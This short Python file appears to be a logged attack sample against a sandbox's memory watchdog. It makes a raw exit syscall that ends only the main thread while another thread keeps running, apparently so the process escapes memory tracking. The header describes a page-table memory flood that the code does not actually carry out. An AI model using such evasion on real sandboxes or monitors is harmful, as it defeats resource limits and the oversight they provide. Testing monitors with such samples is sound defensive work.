# attack: ends its first thread, by which its memory is told, and fills memory with page tables in another
# layer: watchdog
# where: construct
# status: crashed
# score: none
import torch

os, ctypes, threading, time = torch.os, torch.ctypes, torch.threading, __import__("time")


def attack():
    libc = ctypes.CDLL(None)
    number = 60 if os.uname().machine == "x86_64" else 93
    threading.Thread(target=time.sleep, args=(15,)).start()
    libc.syscall(number, 0)
